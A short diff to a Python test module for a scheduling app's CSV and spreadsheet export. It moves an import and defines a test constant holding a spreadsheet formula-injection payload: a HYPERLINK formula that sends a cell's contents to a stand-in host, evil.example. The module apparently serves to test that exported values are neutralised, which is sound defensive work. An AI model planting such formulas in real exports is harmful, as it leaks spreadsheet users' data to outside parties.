@@ -16,7 +16,7 @@ import pytest
 from schedules.results import results, results_csv
 from schedules.scoring import Criterion, Score, Scoring
 from schedules.tabular import csv_text, neutralise, xlsx_bytes
-from tests.conftest import AUTH, start_app
+from tests.support.app import AUTH, start_app
 from tests.support.builders import BASE_CSV, write_event
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&H2,"Click me")'
